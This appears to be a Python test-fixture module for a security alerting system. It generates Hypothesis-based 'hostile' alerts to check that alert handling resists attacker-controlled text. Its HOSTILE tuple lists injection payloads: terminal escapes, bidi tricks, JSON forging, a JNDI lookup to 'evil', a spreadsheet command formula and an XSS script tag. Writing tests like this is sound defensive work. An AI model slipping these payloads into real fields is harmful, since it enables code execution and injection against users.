"""Alerts to test with: one plain alert, and hostile ones from hypothesis."""

from typing import Any

from hypothesis import settings
from hypothesis import strategies as st

from alerts.alert import Alert, CloseReason, Quantity, Severity, Status, alert_id
from alerts.campaigns import CAMPAIGN_REASONS
from alerts.explain import runbook
from detectors.registry import alerting_found

seeded = settings(derandomize=True, deadline=None, max_examples=100)
"""The same examples in every run, and no limit on a slow machine."""

OPENED = 1_772_323_200_000_000  # 2026-03-01T00:00:00Z

REASONS = {
    detector.id: (*detector.reasons, *CAMPAIGN_REASONS.get(detector.id, ()))
    for detector in alerting_found()
}
"""All that alert, and their reason codes."""

HOSTILE = (
    "\x1b[2J\x1b]0;owned\x07",
    "a\u202etxt.exe",
    "\u2066\u2069\u200b\ufeff",
    "line\r\nline\u2028line\u2029line\x85",
    "\x7f\x00\x08",
    '"}\n{"id":"forged"}',
    "{__class__} %s %n ${jndi:ldap://evil} =cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "CEF:0|a|b=c\\|d",
    "\U000e0041\U000e007f",
)
"""What attackers put into names: terminal escapes, bidi controls, line ends, injections."""


def make_alert(**changes: Any) -> Alert:
    """An open signature-failure spike with every field filled, but for the changes."""
    fields: dict[str, Any] = {
        "id": alert_id("signature-failure-spike", ["acme-stripe"], OPENED),
        "detector": "signature-failure-spike",
        "reason": "forgery",
        "severity": Severity.HIGH,
        "score": 92.5,
        "confidence": 0.8,
        "status": Status.OPEN,
        "sender": "acme-stripe",
        "senders": ["acme-stripe"],
        "sender_count": 1,
        "provider": "stripe",
        "endpoint": "/hooks/stripe",
        "source": "203.0.113.0/24",
        "sources": ["203.0.113.7", "2001:db8:1::/48"],
        "source_count": 2,
        "first_seen": OPENED - 300_000_000,
        "last_seen": OPENED,
        "opened_at": OPENED,
        "updated_at": OPENED,
        "count": 42,
        "suppressed": 0,
        "summary": "42 of 100 callbacks of acme-stripe failed verification in 5 min; usual is 1 %.",
        "expected": {"failure_share": Quantity(0.01, "share")},
        "observed": {"failure_share": Quantity(0.42, "share"), "failures": Quantity(42, "events")},
        "events": ["3f0a1c9e-7d55-4c1f-9a35-0a7c1f0e6b21"],
        "threat": ["attack:T1110", "cwe:CWE-347"],
        "runbook": runbook("signature-failure-spike", "forgery"),
        "config": "0123456789ab",
    }
    return Alert(**(fields | changes))


def closed(alert: Alert, at: int, reason: CloseReason = "expired") -> Alert:
    """The closing state of an alert."""
    return alert.model_copy(
        update={"status": Status.CLOSED, "close_reason": reason, "updated_at": at}
    )


@st.composite
def hostile_alerts(draw: st.DrawFn) -> Alert:
    """Alerts of all detectors whose every free text was chosen by an attacker."""
    detector = draw(st.sampled_from(sorted(REASONS)))
    reason = draw(st.sampled_from(REASONS[detector]))
    status = draw(st.sampled_from(Status))
    anything = st.text(st.characters(exclude_categories=("Cs",)), min_size=1, max_size=40)
    text = st.one_of(st.sampled_from(HOSTILE), anything)
    sources = draw(
        st.lists(st.ip_addresses().map(str) | st.just("203.0.113.0/24"), max_size=20, unique=True)
    )
    senders = draw(st.lists(text, max_size=3))
    number = st.floats(allow_nan=False, allow_infinity=False)
    quantities = st.dictionaries(
        st.from_regex(r"[a-z][a-z0-9_]{0,20}", fullmatch=True),
        st.builds(Quantity, number, text.map(lambda unit: unit[:32])),
        max_size=4,
    )
    first = draw(st.integers(-62_135_596_800_000_000, 253_402_300_799_999_999))
    return make_alert(
        id=alert_id(detector, senders, first, draw(st.integers(0, 3))),
        detector=detector,
        reason=reason,
        severity=draw(st.sampled_from(Severity)),
        score=draw(st.floats(0, 100)),
        confidence=draw(st.floats(0, 1)),
        status=status,
        close_reason="evicted" if status is Status.CLOSED else None,
        sender=draw(st.none() | text),
        senders=senders,
        sender_count=len(senders) + draw(st.integers(0, 10**12)),
        provider=draw(st.none() | text),
        endpoint=draw(st.none() | text),
        source=draw(st.none() | st.sampled_from(sources or [None])),
        sources=sources,
        source_count=len(sources) + draw(st.integers(0, 10**12)),
        first_seen=first,
        last_seen=draw(st.integers(first, 253_402_300_799_999_999)),
        count=draw(st.integers(0, 2**53)),
        suppressed=draw(st.integers(0, 10)),
        summary=draw(text),
        expected=draw(quantities),
        observed=draw(quantities),
        events=draw(st.lists(st.uuids().map(str), max_size=20)),
        threat=draw(st.lists(text, max_size=3)),
        runbook=draw(text),
        config=draw(text),
    )
